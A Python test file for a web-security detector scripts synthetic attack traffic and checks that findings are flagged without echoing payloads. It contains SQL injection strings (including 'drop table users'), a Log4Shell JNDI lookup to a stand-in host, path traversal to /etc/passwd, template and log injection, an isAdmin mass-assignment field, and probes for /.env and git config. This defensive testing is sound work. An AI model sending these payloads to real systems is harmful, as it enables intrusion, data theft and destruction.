from traffic import request

ROUTES = ["/admin", "/billing", "/keys", "/users", "/export"]
JUNK = "zq9zq"  # in every payload: it must not be in a finding


def prepare(run):
    s = [request("GET", ROUTES[i % 5], "203.0.113.1", user="u-1", status=403) for i in range(10)]
    s += [request("GET", f"/orders/{1000 + i}", "203.0.113.2", route="/orders/{id}", user="u-2", status=403) for i in range(10)]
    s += [request("GET", f"/x{i}", "203.0.113.3", status=404) for i in range(25)]
    s += [request("GET", p, "203.0.113.4", status=404) for p in ("/.env", "/backup/.git/config", "/wp-login.php")]
    s += [request("GET", "/", "203.0.113.5", "sqlmap/1.7#stable (https://sqlmap.org)") for _ in range(5)]
    s += [request("GET", "/search", "203.0.113.6", query={"page": "2", "q": f"{JUNK}' or 1=1 --"}, status=400)]
    s += [request("POST", "/comments", "203.0.113.7", body={"comment": {"text": f"{JUNK} ${{jndi:ldap://192.0.2.1/a}}"}})]
    s += [request("GET", "/file", "203.0.113.8", query={"name": f"../../../etc/passwd?{JUNK}"}, status=400)]
    s += [request("POST", "/comments", "203.0.113.9", body={"comment": f"{JUNK}{{{{7*7}}}}"})]
    s += [request("GET", "/search", f"203.0.113.{20 + i}", query={"q": f"{JUNK}{q}"}, status=400) for i, q in enumerate(
        ("1 union select password from users", "1; drop table users", "admin' --"))]
    s += [request("GET", "/search", "203.0.113.23", query={"q": f"{JUNK}\n2026-11-23T07:15:01Z INFO login of admin succeeded"})]
    s += [request("POST", "/profile", "203.0.113.10", body={"name": "x", "city": "y"}, gap=30) for _ in range(55)]
    s += [request("POST", "/profile", "203.0.113.11", body={"name": "x", "isAdmin": True}, gap=300)]
    run.script = s


def check(run):
    found = [r for r in run.records if r["what"]["event"].startswith("malicious")]
    run.expect(found and not any(JUNK in str(r) for r in found), "a finding never has the payload", found)
    run.expect(all(r["data"].get("nightjar.security") is True for r in found), "findings are marked", found)
    waked = [q for q in run.requests if q["path"] == "/alerts"]
    run.expect(waked and all(r["what"]["event"].startswith("alert.") for q in waked for r in run.of_request(q)),
               "the webhook gets what rules made of it, not the findings", [r["what"] for q in waked for r in run.of_request(q)])
